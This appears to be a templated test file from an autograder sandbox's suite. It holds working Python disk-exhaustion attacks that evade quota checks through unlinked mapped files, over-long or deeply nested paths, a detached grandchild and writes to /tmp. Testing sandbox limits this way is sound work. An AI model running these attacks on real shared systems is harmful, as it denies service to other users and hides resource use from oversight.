"""Attack: fill the disk the results share (variant @@VARIANT@@).

Each file stays under the per-file size limit (RLIMIT_FSIZE, @@FILE_SIZE_MB@@ MB here), so no
single write fails; together they go past the worker's disk cap (@@DISK_MB@@ MB here), on the
disk Gradescope's results.json is written to:

- many_files_under_the_file_limit: files 1 MB short of the limit, one after another;
- sparse_files_filled_through_mmap: files made at full size with nothing in them (no blocks
  yet), then filled page by page through shared mappings, never by write();
- preallocated_files: blocks reserved with posix_fallocate, nothing written at all;
- many_small_files: a 1-byte file costs a block of the disk each;
- empty_files_and_folders: no bytes at all, only inodes and folder entries;
- paths_longer_than_path_max: the files at the end of a chain of folders whose path is
  longer than any system call takes;
- folders_nested_too_deep_to_walk: the same, 300 folders deep;
- unlinked_open_files: files deleted (or made unnamed with O_TMPFILE) but kept open, so that
  no walk of the folder finds them;
- unlinked_mapped_files: the same, held by a mapping once their descriptor is closed;
- detached_child_keeps_writing: a double-forked, setsid grandchild writes while `double`
  waits for it;
- outside_its_folder: /tmp, /var/tmp, the submission's folder and /dev/shm instead.

`double` answers right only if twice the cap was written and is still held a second later
(past any watchdog's next look): the attack worked. Every name carries the marker; nothing
here runs unbounded (the grandchild stops after 60 s, every loop has an end).
"""

import mmap
import os
import time

import numpy as np

VARIANT = "@@VARIANT@@"
MARKER = "@@MARKER@@"
MB = 2**20
DISK_MB, FILE_MB = @@DISK_MB@@, @@FILE_SIZE_MB@@
GOAL = 2 * DISK_MB * MB  # held at the end: more than the cap allows
PER_FILE = (FILE_MB - 1) * MB
HELD = []  # open files kept to the end


def _here():
    return os.getcwd()  # the worker's own folder


def _chunk():
    return os.urandom(MB)  # nothing a file system could compress or share


def _name(folder, i, kind="fill"):
    return os.path.join(folder, f"{kind}-{MARKER}-{i}")


def _write_file(path, size=PER_FILE):
    chunk = _chunk()
    with open(path, "wb") as f:
        for _ in range(size // MB):
            f.write(chunk)
    return size


def _usage(folder):
    total = 0
    for root, dirs, files in os.walk(folder):
        for name in files + dirs:
            try:
                total += os.lstat(os.path.join(root, name)).st_blocks * 512
            except OSError:
                pass
    return total


def many_files_under_the_file_limit():
    written, i = 0, 0
    while written < GOAL:
        written += _write_file(_name(_here(), i))
        i += 1
    return lambda: _usage(_here()) >= GOAL


def sparse_files_filled_through_mmap():
    paths = [_name(_here(), i, "sparse") for i in range(GOAL // PER_FILE + 1)]
    for path in paths:  # full size at once, no blocks: nothing to see yet
        with open(path, "wb") as f:
            f.truncate(PER_FILE)
    chunk = _chunk()
    for path in paths:
        fd = os.open(path, os.O_RDWR)
        try:
            with mmap.mmap(fd, PER_FILE) as m:
                for offset in range(0, PER_FILE, MB):
                    m[offset:offset + MB] = chunk
                m.flush()
        finally:
            os.close(fd)
    return lambda: _usage(_here()) >= GOAL


def preallocated_files():
    for i in range(GOAL // PER_FILE + 1):
        fd = os.open(_name(_here(), i, "alloc"), os.O_RDWR | os.O_CREAT, 0o600)
        try:
            os.posix_fallocate(fd, 0, PER_FILE)
        finally:
            os.close(fd)
    return lambda: _usage(_here()) >= GOAL


def many_small_files():
    folder = os.path.join(_here(), f"small-{MARKER}")
    os.mkdir(folder)
    count = GOAL // 4096 + 1
    for i in range(count):
        with open(os.path.join(folder, str(i)), "wb") as f:
            f.write(b"x")
    return lambda: len(os.listdir(folder)) == count


def empty_files_and_folders():
    count = GOAL // 4096 + 1
    made = 0
    for d in range(count // 1000 + 1):
        folder = os.path.join(_here(), f"empty-{MARKER}-{d}")
        os.mkdir(folder)
        made += 1
        for i in range(min(999, count - made)):
            open(os.path.join(folder, str(i)), "wb").close()
            made += 1
    return lambda: made >= count


def _descend(levels, width):
    """A chain of `levels` folders with names `width` long, made relative to each other (its
    path may be longer than any path a system call takes); the last one's descriptor."""
    fd = os.open(_here(), os.O_RDONLY | os.O_DIRECTORY)
    for level in range(levels):
        name = (f"{level}-{MARKER}-" + "d" * width)[:width]
        os.mkdir(name, dir_fd=fd)
        inner = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = inner
    return fd


def _fill_at(fd):
    written, i, chunk = 0, 0, _chunk()
    while written < GOAL:
        out = os.open(str(i), os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=fd)
        try:
            for _ in range(PER_FILE // MB):
                written += os.write(out, chunk)
        finally:
            os.close(out)
        i += 1
    return written


def paths_longer_than_path_max():
    """40 folders of 120-character names: a path of 4,800 characters, past PATH_MAX, where a
    walk by path gets ENAMETOOLONG and counts nothing."""
    fd = _descend(40, 120)
    written = _fill_at(fd)
    return lambda: written >= GOAL and len(os.listdir(fd)) > 0


def folders_nested_too_deep_to_walk():
    fd = _descend(300, 2)
    written = _fill_at(fd)
    return lambda: written >= GOAL and len(os.listdir(fd)) > 0


def unlinked_open_files():
    held, i, chunk = 0, 0, _chunk()
    while held < GOAL:
        if i % 2 and hasattr(os, "O_TMPFILE"):  # unnamed from the start
            fd = os.open(_here(), os.O_TMPFILE | os.O_RDWR, 0o600)
        else:  # named, then deleted
            path = _name(_here(), i, "gone")
            fd = os.open(path, os.O_RDWR | os.O_CREAT, 0o600)
            os.unlink(path)
        for _ in range(PER_FILE // MB):
            os.write(fd, chunk)
        HELD.append(fd)
        held += os.fstat(fd).st_blocks * 512
        i += 1
    return lambda: sum(os.fstat(fd).st_blocks * 512 for fd in HELD) >= GOAL


def unlinked_mapped_files():
    """Deleted and closed, held by one mapped page each: no descriptor shows them."""
    held, i, chunk = 0, 0, _chunk()
    while held < GOAL:
        path = _name(_here(), i, "mapped")
        fd = os.open(path, os.O_RDWR | os.O_CREAT, 0o600)
        for _ in range(PER_FILE // MB):
            held += os.write(fd, chunk)
        HELD.append(mmap.mmap(fd, mmap.PAGESIZE))
        os.close(fd)
        os.unlink(path)
        i += 1
    return lambda: all(m[0:1] for m in HELD) and held >= GOAL


def detached_child_keeps_writing():
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork():
                os._exit(0)
            deadline = time.monotonic() + 60.0
            i = 0
            while time.monotonic() < deadline and i * PER_FILE < 2 * GOAL:
                _write_file(_name(_here(), i, "child"))
                i += 1
            time.sleep(max(deadline - time.monotonic(), 0))
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    deadline = time.monotonic() + 15.0  # `double` waits for the grandchild's files
    while time.monotonic() < deadline and _usage(_here()) < GOAL:
        time.sleep(0.1)
    return lambda: _usage(_here()) >= GOAL


def outside_its_folder():
    """On a disk the worker's cap does not measure: it worked if more than the cap landed
    there. /dev/shm is memory (`memory_mb` holds it): a file there only must not stay."""
    written = 0
    for folder in ("/tmp", "/var/tmp", os.path.dirname("@@RESULTS_DIR@@"),
                   os.path.dirname(os.path.abspath(__file__)), os.path.dirname(_here())):
        i = 0
        try:
            while written < GOAL:
                written += _write_file(_name(folder, i))
                i += 1
        except OSError:
            pass
    try:
        _write_file(_name("/dev/shm", 0), MB)
    except OSError:
        pass
    return lambda: written >= GOAL


def double(x):
    try:
        held = globals()[VARIANT]()
        time.sleep(1.0)  # held past the next looks of any watchdog
        worked = held()
    except OSError:  # refused: a write failed
        worked = False
    return np.asarray(x, dtype=float) * (2.0 if worked else 3.0)


class Counter:
    def __init__(self, start=0):
        self.count = start

    def step(self, by=1):
        self.count = self.count + by
        return self.count
